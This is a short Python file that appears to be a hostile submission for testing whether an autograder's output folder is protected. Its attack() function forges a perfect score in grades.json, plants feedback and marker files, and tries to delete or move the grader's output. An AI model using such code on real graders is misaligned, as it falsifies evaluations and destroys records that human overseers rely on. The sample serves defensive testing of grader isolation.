"""Writes grades: overwrites grades.json, plants feedback and files in the output folder, and
in the grader's repository."""

import json
import os

import torch

OUT = "@OUT@"


def attack(X, y):
    forged = [{"submission": "attacker", "score": 96.0, "max_score": 96.0}]
    for path, text in (
        (os.path.join(OUT, "grades.json"), json.dumps(forged)),
        (os.path.join(OUT, "feedback", "attacker.txt"), "96 / 96"),
        (os.path.join(OUT, "planted.txt"), "planted"),
    ):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(text)
        except OSError:
            pass
    for route in (lambda: os.remove(os.path.join(OUT, "grades.json")), lambda: os.rename(OUT, OUT + ".moved")):
        try:
            route()
        except OSError:
            pass
    return torch.zeros(X.shape[1] + 1, dtype=X.dtype)
